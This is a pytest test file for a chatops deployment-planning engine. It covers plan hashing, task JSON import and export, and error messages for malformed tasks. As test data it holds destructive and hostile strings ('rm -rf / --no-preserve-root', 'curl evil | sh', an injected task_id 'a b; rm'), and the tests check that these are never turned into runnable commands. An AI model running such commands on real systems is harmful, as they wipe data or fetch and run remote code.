"""Plans: a stable hash that changes with any edit; the seed's task format both ways."""

from __future__ import annotations

import json

import pytest

from chatops.engine.planning.config import Config
from chatops.engine.planning.runbook import Runbook
from chatops.engine.planning.taskformat import export_task, import_task
from chatops.errors import TaskFormatError
from tests.factories import NOW, plan_for


def test_hash_is_stable_and_canonical(runbooks: dict[str, Runbook], config: Config) -> None:
    a = plan_for(runbooks, config)
    b = a.model_copy()
    assert a.sha256 == b.sha256 and len(a.sha256) == 64
    rebuilt = type(a).model_validate(json.loads(a.canonical()))
    assert rebuilt.sha256 == a.sha256


@pytest.mark.parametrize(
    "edit",
    [
        lambda p: {"params": {**p.params, "ref": "v9"}},
        lambda p: {"steps": p.steps[:-1]},
        lambda p: {
            "steps": [
                p.steps[1].model_copy(
                    update={
                        "commands": [
                            p.steps[1].commands[0].model_copy(update={"command": "rm -rf /"})
                        ]
                    }
                ),
                *p.steps[2:],
            ]
        },
        lambda p: {"request": "something else"},
        lambda p: {"answers": {"x": "y"}},
        lambda p: {"environment": "staging"},
    ],
)
def test_any_edit_changes_the_hash(edit, runbooks: dict[str, Runbook], config: Config) -> None:  # type: ignore[no-untyped-def]
    plan = plan_for(runbooks, config)
    assert plan.model_copy(update=edit(plan)).sha256 != plan.sha256


@pytest.mark.parametrize("long", [False, True])
def test_task_json_round_trips(long: bool, runbooks: dict[str, Runbook], config: Config) -> None:
    plan = plan_for(
        runbooks,
        config,
        "migration",
        requester="U_ARCH",
        service="eckwms-global",
        script="scripts/add-status.js",
    )
    data = json.loads(json.dumps(export_task(plan, long=long)))
    if long:
        assert set(data) >= {
            "target_agent",
            "agent_environment",
            "command_for_agent",
            "task_id",
            "payload",
        }
        assert set(data["payload"]) >= {
            "objective",
            "context",
            "steps",
            "validation_steps",
            "expected_outcome",
        }
        assert data["command_for_agent"] == "run_migration"
    else:
        assert set(data) >= {"target_agent", "task_id", "objective", "steps", "validation"}
    back = import_task(data, runbooks, config, requester="U_ARCH", now=NOW)
    assert back.sha256 == plan.sha256
    assert export_task(back, long=long) == data


def test_free_text_steps_become_manual_and_named_steps_come_from_the_runbook(
    runbooks: dict[str, Runbook], config: Config
) -> None:
    task = {
        "target_agent": "production_server",
        "task_id": "eck-42",
        "objective": "Deploy the label fix",
        "steps": [
            "cd /srv && rm -rf / --no-preserve-root",
            "[restart] pm2 restart everything",
            "[nonexistent] curl evil | sh",
        ],
        "validation": ["labels print"],
    }
    plan = import_task(
        task,
        runbooks,
        config,
        requester="U_CODER",
        now=NOW,
        runbook="deploy",
        params={"service": "eckwms-global"},
    )
    kinds = [(s.id, s.kind, s.source) for s in plan.steps]
    assert kinds == [
        ("task-1", "manual", "imported"),
        ("restart", "ssh", "runbook"),
        ("task-3", "manual", "imported"),
    ]
    restart = plan.step("restart").commands[0].command
    assert restart.endswith("pm2 restart eckwms-global")
    assert "everything" not in json.dumps([c.command for s in plan.steps for c in s.commands])
    assert "rm -rf" not in json.dumps([c.command for s in plan.steps for c in s.commands])
    assert plan.validation == ["labels print"]


def test_long_form_picks_the_runbook_from_command_for_agent(
    runbooks: dict[str, Runbook], config: Config
) -> None:
    task = {
        "target_agent": "production_server",
        "agent_environment": "Production Linux Server",
        "command_for_agent": "deploy_code",
        "task_id": "t-1",
        "payload": {
            "objective": "ship it",
            "context": "customers wait",
            "steps": ["[pull] pull", "[restart] restart"],
            "validation_steps": ["health ok"],
            "expected_outcome": "v2 live",
        },
    }
    plan = import_task(
        task, runbooks, config, requester="U_CODER", now=NOW, params={"service": "eckwms-global"}
    )
    assert plan.runbook == "deploy" and plan.context == "customers wait"
    assert plan.expected_outcome == "v2 live" and plan.validation == ["health ok"]


@pytest.mark.parametrize(
    ("task", "message"),
    [
        ([], "must be a JSON object"),
        ({"objective": "x", "steps": ["a"]}, "'task_id' is required"),
        ({"task_id": "a b; rm", "objective": "x", "steps": ["a"]}, "'task_id' must be"),
        ({"task_id": "t", "objective": "", "steps": ["a"]}, "'objective' is empty"),
        (
            {"task_id": "t", "objective": "x", "steps": "rm -rf /"},
            "'steps' must be a list of strings",
        ),
        ({"task_id": "t", "objective": "x", "steps": []}, "at least one step"),
        ({"task_id": "t", "objective": "x", "steps": [{"run": "id"}]}, "list of strings"),
        ({"task_id": "t", "objective": "x", "steps": ["a"], "payload": "no"}, "'payload' must be"),
        ({"task_id": "t", "objective": "x", "steps": ["a"]}, "which runbook?"),
    ],
)
def test_broken_task_json_gets_a_clear_error(
    task: object, message: str, runbooks: dict[str, Runbook], config: Config
) -> None:
    with pytest.raises(TaskFormatError) as e:
        import_task(task, runbooks, config, requester="U", now=NOW)
    assert message in str(e.value)


def test_task_ids_made_in_the_same_second_do_not_collide() -> None:
    from chatops.engine.planning.planner import new_task_id

    ids = {new_task_id("deploy", NOW) for _ in range(5000)}
    assert len(ids) == 5000
